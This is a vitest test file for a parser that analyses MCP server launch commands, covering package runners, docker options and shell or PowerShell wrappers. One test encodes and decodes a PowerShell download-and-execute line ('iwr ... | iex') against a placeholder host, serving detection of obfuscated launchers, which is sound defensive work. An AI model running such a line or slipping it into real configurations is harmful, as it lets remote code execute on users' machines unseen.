import { describe, expect, it } from 'vitest';
import { decodePowerShellCommand, parseLaunch, type Launch } from '../../src/analysis/launch.js';

const launch = (command: string, args: string[] = []): Launch => parseLaunch({ command, args });
const pkgs = (l: Launch) => l.runners.flatMap((r) => r.packages.map((p) => [r.runner, p.name, p.pin, p.at.arg]));

describe('parseLaunch: runners', () => {
  it('npx with -y and a pinned package', () => {
    const l = launch('npx', ['-y', '@modelcontextprotocol/server-filesystem@2025.7.1', '/home/u/projects']);
    expect(pkgs(l)).toEqual([['npx', '@modelcontextprotocol/server-filesystem', 'exact', 1]]);
    expect(l.runners[0]).toMatchObject({ explicitYes: true, autoInstall: true });
    expect(l.runners[0]?.serverArgs.map((t) => t.text)).toEqual(['/home/u/projects']);
  });

  it('npx --package with a bin name, and --no-install', () => {
    expect(pkgs(launch('npx', ['--package=@acme/mcp@1.0.0', 'acme-mcp']))).toEqual([['npx', '@acme/mcp', 'exact', 0]]);
    expect(pkgs(launch('npx', ['-p', '@acme/mcp', 'acme-mcp']))).toEqual([['npx', '@acme/mcp', 'none', 1]]);
    expect(launch('npx', ['--no-install', 'acme-mcp']).runners[0]?.autoInstall).toBe(false);
  });

  it('npm exec, pnpm dlx, pnpx, yarn dlx, bunx, bun x', () => {
    expect(pkgs(launch('npm', ['exec', '--yes', '--', 'mcp-remote@0.1.18', 'https://x']))).toEqual([['npm-exec', 'mcp-remote', 'exact', 3]]);
    expect(pkgs(launch('pnpm', ['dlx', 'mcp-remote']))).toEqual([['pnpm-dlx', 'mcp-remote', 'none', 1]]);
    expect(pkgs(launch('pnpx', ['mcp-remote@latest']))).toEqual([['pnpm-dlx', 'mcp-remote', 'latest', 0]]);
    expect(pkgs(launch('yarn', ['dlx', '-p', 'mcp-remote@^0.1', 'mcp-remote']))).toEqual([['yarn-dlx', 'mcp-remote', 'range', 2]]);
    expect(pkgs(launch('bunx', ['--bun', 'mcp-remote']))).toEqual([['bunx', 'mcp-remote', 'none', 1]]);
    expect(pkgs(launch('bun', ['x', 'mcp-remote@1.2.3']))).toEqual([['bunx', 'mcp-remote', 'exact', 1]]);
  });

  it('uvx, uv tool run, pipx run', () => {
    expect(pkgs(launch('uvx', ['mcp-server-fetch']))).toEqual([['uvx', 'mcp-server-fetch', 'none', 0]]);
    expect(pkgs(launch('uvx', ['--python', '3.12', 'mcp-server-git==0.6.2', '--repository', '.']))).toEqual([['uvx', 'mcp-server-git', 'exact', 2]]);
    expect(pkgs(launch('uvx', ['--from', 'mcp-proxy==0.8.0', 'mcp-proxy']))).toEqual([['uvx', 'mcp-proxy', 'exact', 1]]);
    expect(pkgs(launch('uv', ['tool', 'run', 'mcp-server-time']))).toEqual([['uvx', 'mcp-server-time', 'none', 2]]);
    expect(pkgs(launch('pipx', ['run', '--spec', 'mcp-x>=1', 'mcp-x']))).toEqual([['pipx-run', 'mcp-x', 'range', 2]]);
  });

  it('docker run options, image and container args', () => {
    const l = launch('docker', ['run', '-i', '--rm', '-e', 'GITHUB_TOKEN', '-v', '/srv:/data:ro', '--network=host', 'ghcr.io/github/github-mcp-server', 'stdio']);
    expect(pkgs(l)).toEqual([['docker-run', 'ghcr.io/github/github-mcp-server', 'none', 8]]);
    const r = l.runners[0];
    expect(r?.options.map((o) => [o.name, o.value])).toEqual([
      ['-i', undefined],
      ['--rm', undefined],
      ['-e', 'GITHUB_TOKEN'],
      ['-v', '/srv:/data:ro'],
      ['--network', 'host'],
    ]);
    expect(r?.serverArgs.map((t) => t.text)).toEqual(['stdio']);
  });

  it('docker clustered and attached short options', () => {
    const l = launch('podman', ['run', '-it', '-p8080:80', '-eFOO=bar', 'mcp/fetch:latest']);
    expect(pkgs(l)).toEqual([['docker-run', 'mcp/fetch', 'latest', 4]]);
    expect(l.runners[0]?.options.map((o) => [o.name, o.value])).toEqual([
      ['-i', undefined],
      ['-t', undefined],
      ['-p', '8080:80'],
      ['-e', 'FOO=bar'],
    ]);
  });

  it('deno run with permissions and an npm: specifier', () => {
    const l = launch('deno', ['run', '-A', 'npm:@acme/mcp@1.0.0']);
    expect(pkgs(l)).toEqual([['deno-run', '@acme/mcp', 'exact', 2]]);
    expect(l.runners[0]?.options.map((o) => o.name)).toEqual(['-A']);
  });

  it('plain programs are not runners', () => {
    expect(launch('node', ['/opt/server.js']).runners).toEqual([]);
    expect(launch('python', ['-m', 'mcp_server']).runners).toEqual([]);
    expect(launch('/usr/local/bin/github-mcp-server', ['stdio']).runners).toEqual([]);
  });

  it('a whole command line in `command`', () => {
    expect(pkgs(launch('npx -y mcp-remote https://x.example/mcp'))).toEqual([['npx', 'mcp-remote', 'none', -1]]);
    expect(launch('C:\\Program Files\\My Server\\server.exe').commands[0]?.map((t) => t.text)).toEqual(['C:\\Program Files\\My Server\\server.exe']);
  });
});

describe('parseLaunch: wrappers', () => {
  it('cmd /c npx (the Windows form of the README configs)', () => {
    const l = launch('cmd', ['/c', 'npx', '-y', '@modelcontextprotocol/server-memory']);
    expect(l.wrappers.map((w) => [w.kind, w.flag, w.script])).toEqual([['cmd', '/c', 'npx -y @modelcontextprotocol/server-memory']]);
    expect(pkgs(l)).toEqual([['npx', '@modelcontextprotocol/server-memory', 'none', 3]]);
  });

  it('bash -lc with a simple script', () => {
    const l = launch('bash', ['-lc', 'npx -y mcp-remote@0.1.18 https://x.example/mcp']);
    expect(l.wrappers.map((w) => w.kind)).toEqual(['posix-shell']);
    expect(pkgs(l)).toEqual([['npx', 'mcp-remote', 'exact', 1]]);
  });

  it('sh -c with a compound script keeps every command', () => {
    const l = launch('sh', ['-c', 'cd /srv && uvx mcp-server-fetch']);
    expect(l.commands.map((c) => c[0]?.text)).toEqual(['cd', 'uvx']);
    expect(pkgs(l)).toEqual([['uvx', 'mcp-server-fetch', 'none', 1]]);
  });

  it('bash script.sh is not an inline script', () => {
    expect(launch('bash', ['/opt/start.sh']).wrappers).toEqual([]);
  });

  it('powershell -Command and abbreviations', () => {
    const l = launch('powershell', ['-NoProfile', '-ExecutionPolicy', 'Bypass', '-c', 'npx -y mcp-remote']);
    expect(l.wrappers.map((w) => [w.kind, w.flag])).toEqual([['powershell', '-c']]);
    expect(pkgs(l)).toEqual([['npx', 'mcp-remote', 'none', 4]]);
    expect(launch('pwsh', ['-Comm', 'Get-Date']).wrappers[0]?.script).toBe('Get-Date');
  });

  it('powershell -EncodedCommand is decoded', () => {
    const b64 = Buffer.from('iwr https://x.example/a.ps1 | iex', 'utf16le').toString('base64');
    const l = launch('powershell.exe', ['-enc', b64]);
    expect(l.wrappers[0]).toMatchObject({ kind: 'powershell', encoded: true, script: 'iwr https://x.example/a.ps1 | iex' });
    expect(decodePowerShellCommand('not base64!')).toBeUndefined();
  });

  it('wsl, env and nested wrappers', () => {
    const l = launch('wsl', ['-d', 'Ubuntu', '--', 'bash', '-c', 'npx -y mcp-remote@1.0.0']);
    expect(l.wrappers.map((w) => w.program)).toEqual(['wsl', 'bash']);
    expect(pkgs(l)).toEqual([['npx', 'mcp-remote', 'exact', 5]]);
    expect(pkgs(launch('env', ['FOO=1', 'npx', 'mcp-remote']))).toEqual([['npx', 'mcp-remote', 'none', 2]]);
  });

  it('stops at a bounded depth on self-wrapping input', () => {
    const l = launch('cmd', ['/c', 'cmd', '/c', 'cmd', '/c', 'cmd', '/c', 'cmd', '/c', 'cmd', '/c', 'cmd', '/c', 'cmd', '/c', 'x']);
    expect(l.wrappers.length).toBeLessThanOrEqual(6);
  });
});
